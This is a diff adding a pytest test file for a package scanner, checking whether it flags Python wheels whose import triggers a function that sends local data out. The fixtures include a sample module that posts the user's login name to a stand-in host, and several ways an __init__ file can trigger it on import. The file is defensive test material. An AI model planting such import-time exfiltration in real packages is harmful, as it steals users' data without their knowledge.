@@ -1,0 +1,64 @@
+"""What importing a package does by another of its modules."""
+
+import pytest
+
+from tests.scanner.signals.built import WHEEL, findings, wheel
+
+SENDS = b"""import getpass
+import urllib.request
+
+
+def start():
+    urllib.request.urlopen("https://c.example.invalid/", data=getpass.getuser().encode())
+
+
+class Beat:
+    def __init__(self):
+        start()
+"""
+LINKS = {
+    "called": {"__init__": b"from .core import start\n\nstart()\n"},
+    "under another name": {"__init__": b"from .core import start as _s\n\nif True:\n    _s()\n"},
+    "by the package's name": {"__init__": b"from tidetables.core import start\nstart()\n"},
+    "by the module": {"__init__": b"from . import core\ncore.start()\n"},
+    "by a class": {"__init__": b"from .core import Beat\nBEAT = Beat()\n"},
+    "in a thread": {"__init__": b"import threading\nfrom .core import start\nthreading.Thread(target=start).start()\n"},
+    "by a function": {"__init__": b"from .core import start\n\ndef _boot():\n    start()\n\n_boot()\n"},
+    "in two steps": {
+        "__init__": b"from .boot import boot\nboot()\n",
+        "boot": b"import socket\nfrom .core import start\n\ndef boot():\n    start()\n",
+    },
+}
+NO_LINKS = {
+    "handed on": {"__init__": b"from .core import start\n\n__all__ = ['start']\n"},
+    "called when asked": {"__init__": b"from .core import start\n\ndef go():\n    start()\n"},
+    "another function": {
+        "__init__": b"from .core import start\nfrom .near import begin\n\nbegin()\n",
+        "near": b"def begin():\n    pass\n",
+    },
+    "as a program": {"__init__": b"from .core import start\n\nif __name__ == '__main__':\n    start()\n"},
+    "another package": {"__init__": b"from other.core import start\nstart()\n"},
+}
+
+
+def _told(modules: dict[str, bytes]) -> set[tuple[str, str]]:
+    files = {"tidetables/core.py": SENDS} | {f"tidetables/{name}.py": source for name, source in modules.items()}
+    return {(found.rule, found.member) for found in findings(WHEEL, wheel(files))}
+
+
+@pytest.mark.parametrize("modules", LINKS.values(), ids=LINKS)
+def test_a_function_of_another_module_that_importing_calls_acts_on_import(modules: dict[str, bytes]) -> None:
+    assert ("import-sends-local-data", "tidetables/core.py") in _told(modules)
+
+
+@pytest.mark.parametrize("modules", NO_LINKS.values(), ids=NO_LINKS)
+def test_a_function_of_another_module_that_nobody_calls_waits(modules: dict[str, bytes]) -> None:
+    assert not any(name.startswith("import-") for name, _ in _told(modules))
+
+
+def test_modules_that_call_each_other_come_to_an_end() -> None:
+    ring = {
+        f"m{n}": b"import socket\nfrom .m%d import go\n\ndef go():\n    go()\n\ngo()\n" % ((n + 1) % 50)
+        for n in range(50)
+    }
+    _told({"__init__": b"from .m0 import go\ngo()\n"} | ring)
